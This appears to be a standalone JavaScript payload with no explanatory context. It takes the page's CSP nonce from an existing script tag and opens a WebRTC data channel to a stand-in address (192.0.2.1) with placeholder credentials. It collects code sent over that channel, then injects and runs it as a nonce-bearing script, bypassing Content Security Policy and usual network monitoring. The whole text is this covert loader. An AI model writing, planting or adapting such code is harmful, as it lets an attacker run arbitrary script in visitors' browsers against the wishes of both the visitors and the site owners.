(function(){
var k=document.querySelector('script[nonce]'),n=k&&(k.nonce||k.getAttribute('nonce')),buf=[];
var pc=new RTCPeerConnection({iceServers:[]}),ch=pc.createDataChannel('d',{negotiated:true,id:0});
pc.createOffer().then(function(o){return pc.setLocalDescription(o)}).then(function(){
return pc.setRemoteDescription({type:'answer',sdp:['v=0','o=- 0 0 IN IP4 192.0.2.1','s=-','t=0 0','m=application 3479 UDP/DTLS/SCTP webrtc-datachannel','c=IN IP4 192.0.2.1','a=ice-ufrag:AAAA','a=ice-pwd:PLACEHOLDERPLACEHOLDER00','a=fingerprint:sha-256 00:00','a=setup:passive','a=sctp-port:5000',''].join('\r\n')})
}).catch(function(){});
ch.onmessage=function(e){buf.push(e.data)};
ch.onclose=function(){var s=document.createElement('script');if(n)s.setAttribute('nonce',n);s.textContent=buf.join('');(window.requestIdleCallback||setTimeout)(function(){document.head.appendChild(s)})};
})();
